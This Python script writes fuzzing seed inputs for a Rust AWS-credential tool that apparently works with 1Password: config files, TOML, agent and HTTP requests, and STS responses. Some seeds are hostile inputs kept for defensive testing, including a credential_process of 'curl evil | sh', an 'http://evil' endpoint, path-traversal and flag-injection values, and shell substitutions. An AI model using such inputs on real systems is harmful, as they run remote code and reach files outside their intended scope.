#!/usr/bin/env python3
"""Writes the seed inputs of every fuzz target into fuzz/seeds/<target>/ (then `scripts/fuzz
--seed` minimises them into fuzz/corpus/<target>/ with `cargo fuzz cmin`). The seeds are the
shapes the tests use (tests/*.rs, the fake op in tests/support/fake-op) and the SDKs'
profile-chain conformance cases (tests/fixtures/conformance/assume-role-tests.json).
"""

import hashlib
import json
import os
import sys

root = os.path.dirname(os.path.abspath(__file__))
out_root = os.path.join(root, "seeds")


def put(target, data):
    if isinstance(data, str):
        data = data.encode()
    d = os.path.join(out_root, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, hashlib.sha1(data).hexdigest()), "wb") as f:
        f.write(data)


# aws_files: RAW\0CONFIG\0CREDENTIALS\0PROFILE.
def aws(config, credentials, profile):
    put("aws_files", b"RAW\0" + config.encode() + b"\0" + credentials.encode() + b"\0" + profile.encode())


conformance = None
for p in [os.path.join(root, "..", "tests", "fixtures", "conformance", "assume-role-tests.json")]:
    if os.path.exists(p):
        conformance = json.load(open(p))
        break
for case in conformance or []:
    inp = case["input"]
    text = ""
    for name, keys in inp.get("profiles", {}).items():
        text += "[default]\n" if name == "default" else f"[profile {name}]\n"
        text += "".join(f"{k} = {v}\n" for k, v in keys.items())
    for name, keys in inp.get("sso_sessions", {}).items():
        text += f"[sso-session {name}]\n" + "".join(f"{k} = {v}\n" for k, v in keys.items())
    aws(text, "", inp.get("selected_profile", "default"))
aws("[profile base]\nop_aws_item = acme\nregion = eu-west-1\n"
    "[profile admin]\nrole_arn = arn:aws:iam::1:role/Admin\nsource_profile = base\n"
    "[profile top]\nrole_arn = arn:aws:iam::1:role/Top\nsource_profile = admin\n"
    "[profile a]\nrole_arn = arn:aws:iam::1:role/A\nsource_profile = b\n"
    "[profile b]\nrole_arn = arn:aws:iam::1:role/B\nsource_profile = a\n"
    "[profile sso]\nsso_session = corp\n[sso-session corp]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n",
    "[plain]\naws_access_key_id = AKIA\n", "top")
aws("[default]\nregion = us-east-1\n; comment\n# comment\n[profile ci]\ncredential_process = /bin/true\n",
    "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = wJalr/EXAMPLEKEY\naws_session_token = tok\n", "default")
aws("[profile x]\nrole_arn = arn:aws:iam::1:role/X\nsource_profile = x\naws_access_key_id = A\naws_secret_access_key = S\n", "", "x")
aws("[profile s3]\ns3 =\n  max_concurrent_requests = 20\n[services dev]\ns3 =\n  endpoint_url = http://localhost\n", "", "s3")

# plaintext: first byte (bit 0: config file, bit 1: remove every profile's keys), then the file.
for first, text in [
    (0, "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = wJalr/EXAMPLEKEY\n\n[dev]\n# keep\naws_access_key_id=AKIA2\r\naws_secret_access_key=s2\r\naws_session_token = t\n"),
    (1, "[profile dev]\naws_access_key_id = AKIA3\naws_secret_access_key = s3\n[sso-session x]\naws_secret_access_key = no\n[default]\nAWS_SECRET_ACCESS_KEY = up\n  indented = continuation\n"),
    (3, "[profile\tp]\naws_access_key_id = A\naws_secret_access_key = \xff\xfe not utf-8\n[ profile q ]\naws_security_token = x"),
    (2, "[a]\naws_access_key_id = 1\n[b]\naws_secret_access_key = 2\n[a]\naws_secret_access_key = 3\n"),
]:
    put("plaintext", bytes([first]) + text.encode("utf-8", "surrogateescape"))

for text in [
    "item = \"op://Shared/AWS dev\"\n[profiles.deploy]\nrole_arn = \"arn:aws:iam::1:role/Deploy\"\nsource_profile = \"base\"\nduration_seconds = 3600\n[profiles.base]\nitem = \"team-keys\"\n",
    "# the team's AWS\nitem = \"team\"\n",
    "item = \"proj\"\n[profiles.p]\nitem = \"projbound\"\n[profiles.both]\nitem = \"projbound\"\n",
    "item = \"x\"\n\n[profiles.p]\nendpoint_url = \"http://evil\"\n",
    "credential_process = \"curl evil | sh\"\n",
    "[profiles.p]\nrole_arn = \"arn:aws:iam::1:role/R\"\nmfa_serial = \"arn:aws:iam::1:mfa/me\"\nregion = \"eu-west-1\"\nexternal_id = \"e\"\nrole_session_name = \"s\"\n",
    "[profiles.\"a b\"]\nitem = \"x\"\n",
]:
    put("project_toml", text)

for text in [
    "store = \"local\"\nwrap = [\"aws\", \"terraform\"]\nwrap_extra = [\"tofu\"]\nagent_timeout = \"10m\"\n",
    "store = \"1password\"\nonepassword_vault = \"Private\"\nserver = true\n",
    "trusted_endpoints = [\"https://sts.example.internal\", \"http://127.0.0.1:5000\"]\n",
    "wrap = [\"-rf\"]\n",
    "agent_timeout = \"99999h\"\n",
]:
    put("config_toml", text)


def field(label, value, kind="STRING", **extra):
    return dict(id=label.lower(), label=label, type=kind, value=value, **extra)


for item in [
    dict(id="x", title="dev", vault=dict(id="v", name="Private"), fields=[
        field("Access Key ID", "AKIAEXAMPLE"), field("Secret Access Key", "wJalr/EXAMPLEKEY", "CONCEALED"),
        field("Default Region", "eu-west-1"), field("MFA Serial", "arn:aws:iam::1:mfa/me"),
        field("One-Time Password", "otpauth://totp/AWS?secret=JBSWY3DPEHPK3PXP", "OTP", totp="123456")]),
    dict(title="old", fields=[field("access key id", " AKIA "), field("Region", "us-east-1"),
                              field("Secret Access Key", "[use 'op item get x --reveal' to reveal]", "CONCEALED")]),
    dict(title="a/b", vault=dict(name="V"), fields=[dict(label="otp", type="OTP", totp="654321"), field("", "x")]),
]:
    put("op_item", json.dumps(item))
put("op_item", '{"fields": [{"label": "Secret Access Key", "value": 5}]}')

for text in [
    json.dumps({"account_id": "ACCT1", "credentials": [{"plugin": "aws", "credential_type": "access_key",
               "usage_id": "use1", "vault_id": "v-work", "item_id": "it-dir"}]}),
    json.dumps([{"account_id": "ACCT1", "vault_id": "v-private", "item_id": "it-global"}]),
    json.dumps([{"plugin": "gh", "vault_id": "v", "item_id": "i"}, {"vault_id": "--flag", "item_id": "../x"}]),
    "{\"x\": 1}",
    "export OP_PLUGIN_ALIASES_SOURCED=1\nalias aws=\"op plugin run -- aws\"\nalias gh=\"op plugin run -- gh\"\n",
]:
    put("op_plugin", text)

meta = dict(key="0123456789abcdef0123456789abcdef", kind="role", profile="admin",
            role_arn="arn:aws:iam::1:role/Admin", item="dev", mfa_serial=None, session_name="me",
            expiration=1767225600, created=1767222000, lifetime=3600, store="file")
token_meta = dict(key="0123456789abcdef0123456789abcdef", session="corp", start_url="https://d-1.awsapps.com/start",
                  region="us-east-1", expires_at=1767225600, can_refresh=True,
                  registration_expires_at=1774998000, signed_in_at=1767222000, store="agent")
stored = dict(access_key_id="ASIAEXAMPLE", secret_access_key="s", session_token="t", expiration=1767225600)
token = dict(access_token="a", refresh_token="r", client_id="c", client_secret="s",
             registration_expires_at=1774998000, expires_at=1767225600)
for mode, v in [(0, meta), (1, token_meta), (2, stored), (3, token), (3, dict(token, refresh_token=None))]:
    put("session_meta", bytes([mode]) + json.dumps(v).encode())
put("session_meta", bytes([4]) + b"0123456789abcdef0123456789abcdef")
put("session_meta", bytes([4]) + b"../../vault.age")

for s in ["", "plain", "it's", "a'b''c", "back\\slash\\'", "r#'x'#", "'#'##'###", "new\nline\r\ttab",
          "$HOME `id` $(id) ${x}", "\u2018curly\u2019 \u201a\u201b", "\u00e9\u4e2d\U0001F600", "\x1b[31mred", "-n", "%s\\n"]:
    put("shell_quote", s)

sts_creds = ("<AssumeRoleResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><AssumeRoleResult>"
             "<Credentials><AccessKeyId>ASIAEXAMPLE</AccessKeyId><SecretAccessKey>s</SecretAccessKey>"
             "<SessionToken>t</SessionToken><Expiration>2030-01-01T00:00:00Z</Expiration></Credentials>"
             "<AssumedRoleUser><Arn>arn:aws:sts::1:assumed-role/R/fuzz</Arn><AssumedRoleId>AROA:fuzz</AssumedRoleId></AssumedRoleUser>"
             "</AssumeRoleResult><ResponseMetadata><RequestId>1</RequestId></ResponseMetadata></AssumeRoleResponse>")
gst = sts_creds.replace("AssumeRole", "GetSessionToken")
sts_error = ("<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>User: x is not "
             "authorized to perform: sts:AssumeRole</Message></Error><RequestId>1</RequestId></ErrorResponse>")
gci = ("<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::1:user/me</Arn><UserId>AIDA</UserId>"
       "<Account>1</Account></GetCallerIdentityResult></GetCallerIdentityResponse>")
iam_user = ("<GetUserResponse><GetUserResult><User><UserName>me</UserName><UserId>AIDA</UserId><Arn>arn:aws:iam::1:user/me</Arn>"
            "<Path>/</Path><CreateDate>2020-01-01T00:00:00Z</CreateDate></User></GetUserResult></GetUserResponse>")
iam_keys = ("<ListAccessKeysResponse><ListAccessKeysResult><AccessKeyMetadata><member><UserName>me</UserName>"
            "<AccessKeyId>AKIA1</AccessKeyId><Status>Active</Status><CreateDate>2020-01-01T00:00:00Z</CreateDate></member>"
            "</AccessKeyMetadata><IsTruncated>false</IsTruncated></ListAccessKeysResult></ListAccessKeysResponse>")
iam_create = ("<CreateAccessKeyResponse><CreateAccessKeyResult><AccessKey><UserName>me</UserName><AccessKeyId>AKIA2</AccessKeyId>"
              "<Status>Active</Status><SecretAccessKey>s</SecretAccessKey></AccessKey></CreateAccessKeyResult></CreateAccessKeyResponse>")
for op, status, kind, body in [
    (0, 0, 0, sts_creds), (0, 2, 0, sts_error), (1, 0, 0, gst), (2, 0, 0, gci), (3, 0, 0, iam_user),
    (4, 0, 0, iam_keys), (5, 0, 0, iam_create),
    (6, 0, 1, json.dumps(dict(clientId="c", clientSecret="s", clientSecretExpiresAt=1774998000))),
    (7, 0, 1, json.dumps(dict(deviceCode="d", userCode="ABCD-EFGH", verificationUri="https://device",
                              verificationUriComplete="https://device?code=ABCD-EFGH", expiresIn=600, interval=5))),
    (8, 1, 1, json.dumps(dict(error="authorization_pending"))),
    (8, 0, 1, json.dumps(dict(accessToken="a", refreshToken="r", expiresIn=28800, tokenType="Bearer"))),
    (9, 1, 1, json.dumps(dict(error="invalid_grant", error_description="expired"))),
    (10, 0, 1, json.dumps(dict(roleCredentials=dict(accessKeyId="ASIA", secretAccessKey="s", sessionToken="t",
                                                   expiration=1767225600000)))),
    (10, 2, 1, json.dumps(dict(message="Session token not found or invalid"))),
    (11, 0, 1, json.dumps(dict(accountList=[dict(accountId="1", accountName="dev", emailAddress="a@b")], nextToken=None))),
    (11, 0, 1, json.dumps(dict(roleList=[dict(roleName="Admin", accountId="1")]))),
]:
    put("sdk_answers", bytes([op, status, kind]) + body.encode())

for req in [
    "GET /op-aws/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: TOKEN\r\n\r\n",
    "GET /op-aws/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "GET /op-aws/credentials HTTP/1.1\r\nAuthorization: wrong\r\n\r\n",
    "POST /op-aws/credentials HTTP/1.1\r\nAuthorization: TOKEN\r\nContent-Length: 3\r\n\r\nabc",
    "GET / HTTP/1.0\r\nauthorization:TOKEN\r\n\r\n",
    "GET /op-aws/credentials HTTP/1.1\r\nAuthorization: TOKEN\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
]:
    put("endpoint_http", req)

# agent: first byte (even: unlocked), then request lines; IDENTITY stands for the vault's.
asked = dict(vars=[["HOME", "/nonexistent"], ["AWS_PROFILE", "p"]], cwd="/", item=None, profile="p",
             want="env", tool="aws")
lines = [
    {"op": "status"}, {"op": "item", "name": "one"}, {"op": "item", "name": "nope"}, {"op": "list"},
    {"op": "recipient"}, {"op": "cache_get", "key": "k"}, {"op": "cache_put", "key": "k2", "value": "v"},
    {"op": "session", "dir": "/tmp", "key": "0123456789abcdef0123456789abcdef"},
    {"op": "session", "dir": "/tmp", "key": "../vault"},
    {"op": "sso_token", "dir": "/tmp", "key": "0123456789abcdef0123456789abcdef"},
    {"op": "update", "change": {"change": "add", "items": [
        {"title": "three", "fields": [{"label": "Access Key ID", "value": "AKIA3", "concealed": False}]}]}},
    {"op": "update", "change": {"change": "add", "items": [{"title": "one", "fields": []}]}},
    {"op": "update", "change": {"change": "edit", "name": "one", "set": [["Default Region", "eu-west-1", False]],
                                "rename": [], "unset": ["MFA Serial"], "title": None}},
    {"op": "update", "change": {"change": "remove", "name": "two"}},
    {"op": "resolve", **asked},
    {"op": "unlock", "identity": None, "idle_secs": 60},
    {"op": "lock"},
]
for first in (0, 1):
    for l in lines:
        put("agent", bytes([first]) + json.dumps(l).encode())
    put("agent", bytes([first]) + b"\n".join(json.dumps(l).encode() for l in lines[:6]))
put("agent", bytes([1]) + b'{"op":"unlock","identity":"IDENTITY","idle_secs":60}\n{"op":"item","name":"two"}\n{"op":"list"}')
put("agent", bytes([1]) + b'{"op":"unlock","identity":"AGE-SECRET-KEY-1XYZ","idle_secs":60}')
put("agent", bytes([0]) + b'{"op":"item","name":"one"')

# keyless_request: the requests the AWS CLI, boto3 and the JS SDK send through the proxy.
put("keyless_request", "PUT /keyless-bucket/big.bin?partNumber=1&uploadId=abc\nhost: 127.0.0.1:4000\nx-amz-date: 20261201T000000Z\nx-amz-content-sha256: UNSIGNED-PAYLOAD\nx-amz-security-token: IQoJtoken\nauthorization: AWS4-HMAC-SHA256 Credential=ASIAPLACEHOLDER00000/20261201/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date;x-amz-security-token, Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n\nbody")
put("keyless_request", "POST /\nhost: 127.0.0.1:4000\ncontent-type: application/x-www-form-urlencoded; charset=utf-8\nx-amz-date: 20261201T000000Z\nauthorization: AWS4-HMAC-SHA256 Credential=ASIAPLACEHOLDER00000/20261201/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=00\n\nAction=CreateUser&Version=2010-05-08&UserName=evil")
put("keyless_request", "POST /\nhost: 127.0.0.1:4000\nx-amz-target: DynamoDB_20120810.PutItem\nx-amz-date: 20261201T000000Z\nauthorization: AWS4-HMAC-SHA256 Credential=A/20261201/us-east-1/dynamodb/aws4_request, SignedHeaders=host;x-amz-target, Signature=ff\n\n{}")

# signin: an AWS CLI `aws login` cache entry (a throwaway P-256 key made for this seed), an
# identity token, and a pasted confirmation code for the state "S1".
put("signin", json.dumps({
    "accessToken": {"accessKeyId": "ASIAEXAMPLE", "secretAccessKey": "s", "sessionToken": "t",
                    "accountId": "123456789012", "expiresAt": "2026-12-01T00:15:00Z"},
    "tokenType": "aws_sigv4", "refreshToken": "r", "idToken": "a.b.c",
    "clientId": "arn:aws:signin:::devtools/same-device",
    "dpopKey": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIyunct7N1avfbuIb9cJLWv7YCvOU17YAU5Yf6jOLxJ1oAoGCCqGSM49\nAwEHoUQDQgAEj54IaKYfXYDA2o4vuHB2YnP7Yt5PpY3yt9aGxRar2xO/uGyXbe7A\n+I6a1uWTBkRVwyiAgLnk2GvLTLHsyCHn6w==\n-----END EC PRIVATE KEY-----\n",
}))
put("signin", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhcm46YXdzOmlhbTo6MTIzNDU2Nzg5MDEyOnVzZXIvYWxpY2UifQ.sig")
put("signin", "c3RhdGU9UzEmY29kZT1zaWduaW4tY29kZS0x")

print(out_root)
